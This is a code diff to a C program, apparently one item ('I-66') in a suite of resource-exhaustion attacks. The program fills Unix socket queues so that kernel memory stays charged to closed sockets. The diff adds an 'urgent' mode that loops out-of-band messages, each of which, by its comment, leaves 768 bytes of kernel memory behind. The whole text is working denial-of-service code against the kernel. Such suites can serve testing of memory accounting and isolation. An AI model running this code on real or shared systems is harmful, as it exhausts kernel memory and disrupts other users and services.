@@ -1,5 +1,6 @@
-// I-66: messages in queues of Unix sockets, which are charged to the sockets that sent them, and those are closed: argv[1] MiB, argv[2]: stream, packets or
-// datagrams (which need a socket with a name). It waits then for argv[3] milliseconds.
+// I-66: messages in queues of Unix sockets, which are charged to the sockets that sent them, and those are closed: argv[1] MiB, argv[2]: stream, packets,
+// datagrams (which need a socket with a name), or urgent: every other message is a byte out of band that was read, and leaves 768 bytes of the kernel's. It
+// waits then for argv[3] milliseconds.
 #include "attack.h"
 
 #include <sys/socket.h>
@@ -42,12 +43,25 @@ static size_t pair(int type) {
         return socketpair(AF_UNIX, type, 0, s) < 0 ? 0 : fill(s[0]);
 }
 
+static size_t urgent(void) {
+        size_t n = 0;
+        char byte;
+        int s[2];
+
+        if (socketpair(AF_UNIX, SOCK_STREAM, 0, s) < 0)
+                return 0;
+        while (send(s[0], "x", 1, MSG_OOB | MSG_DONTWAIT) > 0 && recv(s[1], &byte, 1, MSG_OOB) > 0 && send(s[0], "x", 1, MSG_DONTWAIT) > 0)
+                n += 2;
+        close(s[0]);
+        return n * 768;
+}
+
 int main(int argc, char **argv) {
         size_t mib = (size_t)atoi(arg(argc, argv, 1)), got = 0, more = 1;
         char way = *arg(argc, argv, 2);
 
         for (int i = 0; more > 0 && got < mib << 20; i++) {
-                more = way == 'd' ? datagrams(i) : pair(way == 's' ? SOCK_STREAM : SOCK_SEQPACKET);
+                more = way == 'u' ? urgent() : way == 'd' ? datagrams(i) : pair(way == 's' ? SOCK_STREAM : SOCK_SEQPACKET);
                 got += more;
         }
         if (argc > 3)
